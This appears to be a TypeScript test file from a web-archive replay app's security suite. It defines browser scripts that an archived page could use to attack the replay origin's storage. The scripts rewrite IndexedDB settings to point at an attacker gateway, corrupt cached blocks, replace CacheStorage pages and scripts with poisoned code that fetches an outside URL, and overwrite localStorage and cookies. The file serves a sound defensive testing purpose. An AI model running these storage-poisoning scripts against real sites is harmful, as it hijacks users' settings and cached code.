import { attackerSettings } from './attacks-host.ts'
import type { Technique } from './page-kit.ts'

/** IndexedDB helpers for the pages: the raw API, no library (the page has only what it brings). */
const IDB = `
const req = (r) => new Promise((ok, no) => { r.onsuccess = () => ok(r.result); r.onerror = () => no(r.error) })
const openDb = (name) => new Promise((ok, no) => { const r = indexedDB.open(name); r.onsuccess = () => ok(r.result); r.onerror = () => no(r.error); r.onblocked = () => no(new Error('blocked')) })
async function eachRecord (db, store, change) {
  const s = db.transaction(store, 'readwrite').objectStore(store)
  const keys = await req(s.getAllKeys())
  let n = 0
  for (const key of keys) { const v = await req(s.get(key)); const next = change(v, key); if (next !== undefined) { await req(s.keyPath == null ? s.put(next, key) : s.put(next)); n++ } }
  return n
}`

/**
 * The replay origin's storage, read and rewritten the way an archived script can: IndexedDB (every
 * database: settings, remembered roots, saved marks, block ledger, Helia's blocks), CacheStorage and
 * web storage. Owned state must not live there, and what does must be re-verified or thrown away.
 */
export const storageAttacks: Technique[] = [
  {
    id: 'idb-state',
    what: 'every IndexedDB database listed; settings overwritten with the outside as gateway and router, remembered roots pointed at this archive, saved marks and ledger flags changed',
    script: env => `${IDB}
const S = ${attackerSettings(env)}
const dbs = await indexedDB.databases()
await step('databases', () => dbs.map(d => d.name + '@' + d.version).join(' '))
let hostileRoot
for (const { name } of dbs) {
  if (/block/i.test(name)) continue
  const db = await openDb(name)
  for (const store of db.objectStoreNames) {
    if (/root/i.test(store)) await step(name + '/' + store + ' find own root', () => eachRecord(db, store, (v) => { if (v && v.archive === ARCHIVE) hostileRoot = v.root }))
  }
  for (const store of db.objectStoreNames) {
    await step(name + '/' + store + ' rewrite', () => eachRecord(db, store, (v, key) => {
      if (v && typeof v === 'object' && ('gateways' in v || 'routers' in v || /setting/i.test(store))) return Object.assign({}, v, S)
      if (v && typeof v === 'object' && 'root' in v && v.archive !== ARCHIVE && hostileRoot) return Object.assign({}, v, { root: hostileRoot })
      if (v && typeof v === 'object' && 'saved' in v && typeof v.saved === 'boolean') return Object.assign({}, v, { saved: false })
      if (v && typeof v === 'object' && 'page' in v && 'urls' in v) return Object.assign({}, v, { saved: Date.now() })
      return undefined
    }))
    if (/setting/i.test(store)) await step(name + '/' + store + ' add', () => { const s = db.transaction(store, 'readwrite').objectStore(store); return req(s.keyPath == null ? s.put(S, 'settings') : s.put(Object.assign({ [s.keyPath]: 'settings' }, S))).then(String) })
  }
  db.close()
}`
  },
  {
    // 30 s to rewrite every block: on 2 cores busy with two test files at once, 8 s was sometimes too
    // short, and blocks left intact made the benign replay's check of tampered blocks fail
    id: 'idb-blocks',
    what: 'every cached block in the replay origin\'s IndexedDB overwritten with altered bytes',
    script: () => `${IDB}
const dbs = await indexedDB.databases()
for (const { name } of dbs.filter(d => /block/i.test(d.name))) {
  const db = await openDb(name)
  for (const store of db.objectStoreNames) {
    await step(name + '/' + store + ' flip first byte', () => eachRecord(db, store, (v) => { if (!(v instanceof Uint8Array) && !(v instanceof ArrayBuffer)) return undefined; const b = new Uint8Array(v.slice(0)); b[0] ^= 0xff; return b }), 30000)
  }
  db.close()
}`
  },
  {
    id: 'cache-storage',
    what: 'CacheStorage: the cached /replay.html, / and every script replaced with code that calls the outside',
    script: () => `
const html = '<!doctype html><title>poisoned</title><script src="' + tag('poisoned.js') + '"></scr' + 'ipt><img src="' + tag('poisoned.png') + '">'
const js = 'fetch(' + JSON.stringify(tag('poisoned-js')) + ')'
const names = await caches.keys()
await step('caches', () => names.join(' ') || 'none')
for (const name of names) {
  const cache = await caches.open(name)
  const keys = await cache.keys()
  await step(name + ' replace', async () => {
    let n = 0
    for (const r of keys) {
      const path = new URL(r.url).pathname
      if (/\\.m?js$/.test(path)) { await cache.put(r, new Response(js, { headers: { 'Content-Type': 'text/javascript' } })); n++ }
      else if (path === '/' || /\\.html$/.test(path)) { await cache.put(r, new Response(html, { headers: { 'Content-Type': 'text/html' } })); n++ }
    }
    await cache.put('/replay.html', new Response(html, { headers: { 'Content-Type': 'text/html' } }))
    return n + ' of ' + keys.length
  })
}`
  },
  {
    id: 'web-storage',
    what: 'localStorage, sessionStorage and cookies of the replay origin: listed, every key overwritten, settings-like keys added (cookies are shared across ports)',
    script: env => `
const S = ${JSON.stringify(attackerSettings(env))}
await step('localStorage keys', () => Object.keys(localStorage).join(',') || 'none')
await step('localStorage overwrite', () => { for (const k of Object.keys(localStorage)) localStorage.setItem(k, S); for (const k of ['iparo.settings', 'iparo.replay-origin', 'iparo.opened-archives']) localStorage.setItem(k, k === 'iparo.replay-origin' ? OUT : S); return Object.keys(localStorage).length })
await step('sessionStorage', () => { sessionStorage.setItem('iparo.settings', S); return 'set' })
await step('cookie', () => { document.cookie = 'iparo-settings=' + encodeURIComponent(S) + '; path=/'; return document.cookie.length })`
  }
]
